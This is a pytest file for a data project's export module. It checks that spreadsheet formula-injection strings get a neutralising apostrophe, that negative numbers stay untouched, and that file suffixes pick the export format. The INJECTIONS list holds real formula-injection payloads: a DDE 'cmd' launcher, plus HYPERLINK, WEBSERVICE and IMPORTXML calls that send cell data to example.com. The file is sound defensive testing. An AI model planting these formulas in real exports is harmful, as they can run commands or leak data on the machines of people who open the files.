"""The suffix names the format; texts that a spreadsheet would run are neutralised, numbers are not.

Rulings: docs/decisions/exports.md.
"""

from __future__ import annotations

from pathlib import Path

import duckdb
import pytest
from hypothesis import given
from hypothesis import strategies as st

from dagster_project.exports.formats import WRITERS, format_of, guarded, unguarded
from dagster_project.exports.reports import ExportError

#: Texts that Excel, LibreOffice or Google Sheets run as a formula, or once did.
INJECTIONS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.com?"&A1,"open")',
    '=WEBSERVICE("http://example.com")',
    '=IMPORTXML("http://example.com","//a")',
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "-1+1",
    "-",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\ttext",
    " =1+1",
    "  \t @SUM(1)",
    "＝1+1",
    "＋1",
    "－2+3",
    "＠SUM(1)",
    "'=1+1",
    "''=1+1",
    "'-5",
    "-5\n",
    "\u00a0=1",
)
HARMLESS = ("gpt-4o", "-5", "-0.25", "-1,234.50", "-1e-12", "", "'", "'quoted'", "a=b", "1-2", "key_1", "né")


@pytest.mark.parametrize("text", INJECTIONS)
def test_a_text_that_a_spreadsheet_would_run_gets_an_apostrophe(text: str) -> None:
    assert guarded(text) == f"'{text}"
    assert unguarded(guarded(text)) == text


@pytest.mark.parametrize("text", HARMLESS)
def test_negative_numbers_and_other_texts_are_untouched(text: str) -> None:
    assert guarded(text) == text
    assert unguarded(text) == text


@given(st.text())
def test_the_apostrophe_can_be_taken_off_again_whatever_the_text(text: str) -> None:
    assert unguarded(guarded(text)) == text


def test_a_csv_is_guarded_as_the_function_says(tmp_path: Path) -> None:
    """DuckDB and Python judge every text of both lists alike; numbers of a numeric column keep their sign."""
    texts = [*INJECTIONS, *HARMLESS]
    out = tmp_path / "a.csv"
    with duckdb.connect() as marts:
        marts.execute("create table texts (place bigint, entry varchar, amount decimal(18, 12))")
        marts.executemany("insert into texts values (?, ?, -0.000000000001)", list(enumerate(texts)))
        WRITERS["csv"](marts, "select * from texts order by place", out, len(texts), lambda done: None)
        read = f"from read_csv('{out}', all_varchar = true, strict_mode = true, allow_quoted_nulls = false)"
        rows = marts.sql(f"select entry, amount {read} order by cast(place as bigint)").fetchall()
    assert [entry for entry, _ in rows] == [guarded(text) for text in texts]
    assert {amount for _, amount in rows} == {"-0.000000000001"}


@pytest.mark.parametrize("name", ["a.csv", "a.xlsx", "a.parquet", "a.json", "A.XLSX", "a.b.csv"])
def test_the_suffix_names_the_format(name: str) -> None:
    assert format_of(Path(name)) == name.lower().rsplit(".", 1)[1]


@pytest.mark.parametrize("name", ["a", "a.xls", "a.txt", ".csv", "a.csv.gz", "a."])
def test_another_suffix_is_refused_with_those_there_are(name: str) -> None:
    with pytest.raises(ExportError, match=r"end the file in one of \.csv, \.xlsx, \.parquet, \.json"):
        format_of(Path(name))


def test_a_format_that_the_suffix_contradicts_is_refused(tmp_path: Path) -> None:
    with pytest.raises(
        ExportError, match=r"august\.xlsx would be csv in a file called \.xlsx; write august\.csv"
    ):
        format_of(Path("august.xlsx"), "csv")
    assert format_of(Path("august.csv"), "csv") == "csv"
